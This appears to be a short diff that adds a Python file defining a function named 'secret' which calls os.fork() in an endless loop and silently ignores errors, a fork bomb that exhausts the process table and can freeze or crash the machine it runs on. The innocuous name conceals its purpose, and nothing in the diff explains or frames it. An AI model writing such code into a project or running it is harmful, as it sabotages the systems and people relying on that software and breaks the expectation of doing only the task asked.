@@ -1,0 +1,7 @@
+import os
+def secret(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
